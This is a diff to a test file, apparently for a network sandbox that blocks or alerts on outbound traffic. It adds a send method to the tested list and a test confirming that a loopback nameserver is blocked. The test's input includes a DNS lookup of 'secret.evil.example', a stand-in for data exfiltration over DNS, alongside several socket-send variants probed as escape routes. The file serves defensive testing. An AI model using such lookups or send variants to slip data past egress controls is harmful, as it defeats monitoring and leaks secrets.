@@ -143,7 +143,7 @@ describe('hosts that may be reached', () => {
 });
 
 describe('ways to send', () => {
-  const WAYS = ['sendto', 'sendmsg', 'sendmmsg', 'syscall-sendto', 'syscall-connect', 'connected-send', 'connected-write', 'tcp', 'fastopen'];
+  const WAYS = ['sendto', 'sendto-no-family', 'sendmsg', 'sendmmsg', 'syscall-sendto', 'syscall-connect', 'connected-send', 'connected-write', 'tcp', 'fastopen'];
 
   test.each(WAYS)('%s', (way) => {
     const send = (document?: string) => run(inNamespace([calls, 'questions'], ['203.0.113.10/32']), document, { input: `${way} 203.0.113.10 443\n` });
@@ -201,6 +201,17 @@ describe('nameservers', () => {
     expect(new Set(events.map(({ target }) => target))).toEqual(new Set([
       '203.0.113.20:80', 'secret.evil.example', '99.113.0.203.in-addr.arpa', 'nameserver', 'a.example', '203.0.113.53:53', '203.0.113.21:80',
     ]));
+  });
+
+  test('one on loopback is no way out either', () => {
+    const nameserver = (mode: 'block' | 'alert') => {
+      const resolv = path.join(path.dirname(calls), 'loopback.conf');
+      fs.writeFileSync(resolv, 'nameserver 127.0.0.53\n');
+      const input = 'sendto 127.0.0.53 53\ntcp 127.0.0.53 53\nudp 127.0.0.53 54\nres_query secret.evil.example\n';
+      return run(['unshare', '-m', 'sh', '-c', 'mount --bind "$0" /etc/resolv.conf && exec "$@"', resolv, ...inNamespace([calls, 'questions'])], network(mode), { input });
+    };
+    expect(nameserver('block').stdout).toBe('EACCES\nEACCES\ndone\n1\n');
+    expect(nameserver('alert').stdout).toMatch(/^done\nECONNREFUSED\ndone\n/);
   });
 
   test('alerts change nothing', () => {
